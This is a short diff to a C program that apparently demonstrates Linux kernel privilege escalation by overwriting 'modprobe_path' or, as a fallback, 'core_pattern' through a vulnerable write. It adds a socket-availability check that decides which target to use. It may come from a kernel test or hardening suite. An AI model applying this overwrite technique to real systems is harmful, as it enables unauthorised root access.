@@ -5,6 +5,7 @@
  * for which one write of a few bytes is enough.
  */
 #define _GNU_SOURCE
+#include <errno.h>
 #include <signal.h>
 #include <stdio.h>
 #include <string.h>
@@ -17,6 +18,15 @@
 
 /* A protocol family that no kernel of ours has. */
 #define FAMILY	21
+
+static bool has_sockets(void)
+{
+	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
+
+	if (fd >= 0)
+		close(fd);
+	return fd >= 0 || errno != ENOSYS;
+}
 
 static void load_a_module(void)
 {
@@ -57,7 +67,7 @@ int main(void)
 	helper_main();
 
 	path = vuln_symbol("modprobe_path");
-	if (!path.addr) {
+	if (!path.addr || !has_sockets()) {
 		path = vuln_symbol("core_pattern");
 		text = core;
 	}
